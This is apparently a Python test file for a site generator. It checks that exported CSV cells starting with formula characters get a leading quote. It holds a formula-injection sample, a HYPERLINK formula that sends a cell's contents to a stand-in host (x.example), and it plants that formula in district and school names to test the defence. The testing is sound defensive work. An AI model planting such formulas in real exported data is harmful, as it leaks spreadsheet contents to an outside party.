"""Every CSV plansite writes opens in a spreadsheet without running a formula from the content."""

from __future__ import annotations

import csv
import io
import re
import shutil
from pathlib import Path

import pytest

from generator.core.csvfile import csv_text, safe_cell

REPO = Path(__file__).resolve().parent.parent
HOSTILE_DISTRICT = '=HYPERLINK("http://x.example/?leak="&A2,"x")'
HOSTILE_SCHOOL = "@SUM(A1)"


@pytest.mark.parametrize("value, written", [
    ("=1+1", "'=1+1"), ("+86 138", "'+86 138"), ("-A1", "'-A1"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ("  =1", "'  =1"), (HOSTILE_DISTRICT, "'" + HOSTILE_DISTRICT),
    ("-2+3", "'-2+3"),
])
def test_a_text_cell_a_spreadsheet_would_read_as_a_formula_gets_a_quote(value, written):
    assert safe_cell(value) == written


@pytest.mark.parametrize("value, written", [
    (-5, -5), (-2.5, -2.5), (0, 0), ("-5", "-5"), ("+3.5", "+3.5"), ("-12%", "-12%"), ("巷头小学", "巷头小学"),
    ("a=b", "a=b"), ("", ""), (None, ""), ("—", "—"), ("2021-03-15", "2021-03-15"),
])
def test_numbers_and_ordinary_text_are_written_as_they_are(value, written):
    assert safe_cell(value) == written


def test_a_csv_document_reads_back_with_the_quote_and_the_numbers():
    text = csv_text(["名称", "学时"], [[HOSTILE_SCHOOL, -3], ["巷头小学", 12.5]])
    assert text.startswith("\ufeff") and "\r\n" in text
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
    assert rows == [["名称", "学时"], ["'@SUM(A1)", "-3"], ["巷头小学", "12.5"]]


def _formula_cells(path: Path) -> list[str]:
    text = path.read_text(encoding="utf-8-sig")
    bad = []
    for row in csv.reader(io.StringIO(text)):
        for cell in row:
            head = cell.lstrip(" \n")
            if head[:1] in ("=", "+", "-", "@", "\t", "\r") and not re.fullmatch(r"[+-]?[\d.]+%?", head.strip()):
                bad.append(cell)
    return bad


def test_every_csv_of_the_built_demo_with_hostile_names_is_safe(tmp_path):
    from generator.pipeline import build_site
    site = tmp_path / "site"
    shutil.copytree(REPO / "content", site / "content")
    shutil.copy(REPO / "site.yml", site / "site.yml")
    district = site / "content" / "qinghe" / "_district.yml"
    district.write_text(re.sub(r"(?m)^name: .*$", "name: '" + HOSTILE_DISTRICT.replace("'", "''") + "'",
                               district.read_text(encoding="utf-8"), count=1), encoding="utf-8")
    school = site / "content" / "qinghe" / "qinghe-experimental-primary" / "school.yml"
    text = re.sub(r"(?m)^name: .*$", f"name: '{HOSTILE_SCHOOL}'", school.read_text(encoding="utf-8"), count=1)
    school.write_text(re.sub(r"(?m)^short_name: .*$", f"short_name: '{HOSTILE_SCHOOL}'", text), encoding="utf-8")
    out = tmp_path / "_site"
    result = build_site(site, out, cache=False)
    assert result.ok, [d.to_dict() for d in result.diagnostics if d.level == "error"]
    files = sorted(out.rglob("*.csv"))
    assert len(files) >= 10
    seen = "".join(p.read_text(encoding="utf-8-sig") for p in files)
    assert "'" + HOSTILE_SCHOOL in seen and "'=HYPERLINK(" in seen  # the names are there, as text
    for path in files:
        assert _formula_cells(path) == [], path.relative_to(out)
